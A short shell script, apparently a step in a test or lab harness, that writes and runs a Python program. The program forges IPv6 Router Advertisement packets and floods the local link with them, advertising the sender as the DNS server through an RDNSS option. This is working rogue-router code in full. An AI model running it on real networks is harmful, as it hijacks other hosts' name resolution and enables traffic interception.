#!/bin/sh
. /opt/case/case.sh

cat >/tmp/ra.py <<'END'
import socket, struct, time
i = socket.if_nametoindex("eth0"); me = bytes.fromhex("02000a4d0002")
s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x86dd)); s.bind(("eth0", 0))
src = bytes.fromhex("fe80") + b"\0" * 6 + bytes.fromhex("00000afffe4d0002"); dst = bytes.fromhex("ff02") + b"\0" * 13 + b"\1"
opt = b"\1\1" + me + struct.pack("!BBHI", 25, 3, 0, 600) + src
body = struct.pack("!BBHBBHII", 134, 0, 0, 255, 0x08, 1800, 0, 0) + opt
p = src + dst + struct.pack("!II", len(body), 58) + body; p += b"\0" * (len(p) % 2); t = sum(struct.unpack(f"!{len(p)//2}H", p))
while t >> 16: t = (t & 0xffff) + (t >> 16)
body = body[:2] + struct.pack("!H", ~t & 0xffff) + body[4:]
for n in range(20): s.send(bytes.fromhex("333300000001") + me + b"\x86\xdd" + struct.pack("!IHBB", 6 << 28, len(body), 58, 255) + src + dst + body); time.sleep(0.1)
END
python3 /tmp/ra.py
took_place
